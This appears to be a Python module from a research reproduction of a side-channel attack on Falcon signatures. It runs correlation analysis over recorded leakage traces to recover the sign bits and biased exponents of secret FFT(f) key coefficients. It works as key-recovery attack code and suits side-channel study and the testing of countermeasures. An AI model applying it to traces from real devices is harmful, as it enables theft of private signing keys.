"""Sign-bit and exponent DEMA (the remaining fields of Figure 2).

* Exponent: the softfloat adds the two 11-bit biased exponents; with
  E_y known, CPA over the 2^11 guesses of E_x on HW(E_x + E_y) at the
  exponent-addition sample recovers E_x. Because the known exponents of
  FFT(c) concentrate in a narrow band, the raw-sum hypotheses of nearby
  guesses are strongly collinear; when the mantissa has already been
  recovered (the attack order of :mod:`repro.attack.coefficient`), the
  *output* exponent E_out = E_x + E_y - 1023 + carry is predicted
  exactly per trace — the normalization/rounding carry follows from the
  recovered significand and the known operand — and correlating that
  second intermediate breaks the collinearity.

* Sign: the result sign is s_x XOR s_y with s_y known. The two
  hypotheses are exact complements, so their correlations are mirror
  images ("the sign-bit leakage is symmetric"); per the paper, the
  correct guess is the one with *positive* correlation at the leakage
  point, hence the signed ranking.
"""

from __future__ import annotations

import math

from dataclasses import dataclass, field

import numpy as np

from repro.attack.cpa import CpaResult
from repro.attack.hypotheses import hyp_exp_biased, hyp_exp_out, hyp_exp_sum, hyp_sign
from repro.leakage.traceset import TraceSet

__all__ = ["SignRecovery", "ExponentRecovery", "recover_sign", "recover_exponent"]


@dataclass
class SignRecovery:
    bit: int
    results: list[CpaResult]

    @property
    def score(self) -> float:
        return float(sum(r.scores[r.guesses == self.bit][0] for r in self.results))

    @property
    def margin(self) -> float:
        """Combined-score gap between the chosen bit and its complement."""
        other = float(sum(r.scores[r.guesses == (1 - self.bit)][0] for r in self.results))
        return self.score - other


@dataclass
class ExponentRecovery:
    biased_exponent: int
    results: list[CpaResult] = field(repr=False)
    combined_scores: np.ndarray = field(repr=False)
    guesses: np.ndarray = field(repr=False)

    def __repr__(self) -> str:
        return (
            f"ExponentRecovery(biased_exponent={self.biased_exponent}, "
            f"guesses.shape={self.guesses.shape}, results={len(self.results)}, "
            f"margin={self.margin:.4g})"
        )

    def top_candidates(self, k: int) -> list[int]:
        """The k best exponent guesses, best first.

        Residual aliasing among exponent hypotheses (narrow known-operand
        exponent support) occasionally demotes the true value below rank
        1; key recovery resolves those cases algebraically from the
        candidate lists (see repro.attack.key_recovery.repair_exponents).
        """
        order = np.argsort(-self.combined_scores, kind="stable")[:k]
        return [int(self.guesses[i]) for i in order]

    @property
    def margin(self) -> float:
        """Combined-score gap between the best and second-best guess."""
        if len(self.combined_scores) < 2:
            return float("inf")
        top2 = np.sort(self.combined_scores)[-2:]
        return float(top2[1] - top2[0])


def recover_sign(
    traceset: TraceSet,
    use_both_segments: bool = True,
    chunk_rows: int | None = None,
    distinguisher=None,
) -> SignRecovery:
    """Recover s_x from the sign_out leakage.

    The sign hypotheses of the two guesses are exact complements, so
    correlation-style distinguishers must rank on *signed* correlation
    (the paper's symmetric-leakage rule); likelihood-based
    distinguishers are asymmetric by construction and need no special
    casing — both go through ``score(..., signed=True)``.
    """
    from repro.attack.distinguisher import CpaDistinguisher

    dist = distinguisher or CpaDistinguisher(chunk_rows=chunk_rows)
    layout = traceset.layout
    segments = traceset.segments if use_both_segments else traceset.segments[:1]
    total = np.zeros(2, dtype=np.float64)
    results = []
    for seg in segments:
        hyp = hyp_sign(seg.known_y)
        res = dist.score(
            hyp,
            seg.traces[:, layout.slice_of("sign_out")],
            np.array([0, 1]),
            label="sign_out",
            signed=True,
            exact=True,
        )
        results.append(res)
        total += res.scores
    return SignRecovery(bit=int(np.argmax(total)), results=results)


def recover_exponent(  # sast: declassify(reason=attacker-side exponent recovery from observed leakage)
    traceset: TraceSet,
    use_both_segments: bool = True,
    guess_range: tuple[int, int] = (1, 2047),
    significand: int | None = None,
    chunk_rows: int | None = None,
    distinguisher=None,
) -> ExponentRecovery:
    """Recover the biased exponent E_x.

    Always correlates the raw exponent sum (``exp_sum``). When the
    53-bit ``significand`` recovered by the mantissa attack is supplied,
    additionally correlates the exactly-predicted output exponent
    (``exp_out``), which carries far more guess-separating variation.
    """
    from repro.attack.distinguisher import CpaDistinguisher

    dist = distinguisher or CpaDistinguisher(chunk_rows=chunk_rows)
    layout = traceset.layout
    guesses = np.arange(guess_range[0], guess_range[1], dtype=np.uint64)
    segments = traceset.segments if use_both_segments else traceset.segments[:1]
    total = np.zeros(len(guesses), dtype=np.float64)
    results = []
    for seg in segments:
        hyp = hyp_exp_sum(seg.known_y, guesses)
        res = dist.score(
            hyp, seg.traces[:, layout.slice_of("exp_sum")], guesses,
            label="exp_sum", exact=True,
        )
        results.append(res)
        total += res.scores
        hyp_b = hyp_exp_biased(seg.known_y, guesses)
        res_b = dist.score(
            hyp_b, seg.traces[:, layout.slice_of("exp_biased")], guesses,
            label="exp_biased", exact=True,
        )
        results.append(res_b)
        total += res_b.scores
        if significand is not None:
            hyp_out = hyp_exp_out(seg.known_y, guesses, significand)
            res_out = dist.score(
                hyp_out, seg.traces[:, layout.slice_of("exp_out")], guesses,
                label="exp_out", exact=True,
            )
            results.append(res_out)
            total += res_out.scores
    # Guesses whose exponent offsets are multiples of 16/32/64 can tie
    # *exactly* (their HW-vs-E_y profiles differ by a constant over the
    # narrow observed window). Break exact ties toward the physically
    # expected coefficient scale — the adversary knows sigma_fg and n, so
    # the plausible |FFT(f)| magnitude (and hence exponent) is public.
    center = _expected_exponent_center(traceset)
    tied = np.flatnonzero(total >= total.max() - 1e-9)
    best_idx = tied[int(np.argmin(np.abs(guesses[tied].astype(np.int64) - center)))]
    best = int(guesses[best_idx])
    return ExponentRecovery(
        biased_exponent=best,
        results=results,
        combined_scores=total,
        guesses=guesses,
    )


def _expected_exponent_center(traceset: TraceSet) -> int:
    """Biased exponent of the RMS FFT(f) double for this parameter set.

    Re/Im parts of an FFT slot of f have variance n * sigma_fg^2 / 2;
    both n and sigma_fg are public parameters.
    """
    n = traceset.meta.get("n") if traceset.meta else None
    if not n:
        return 1023 + 5
    from repro.falcon.params import FalconParams

    try:
        sigma_fg = FalconParams.get(int(n)).sigma_fg
    except ValueError:
        return 1023 + 5
    rms = math.sqrt(n / 2.0) * sigma_fg
    return 1023 + int(round(math.log2(rms)))
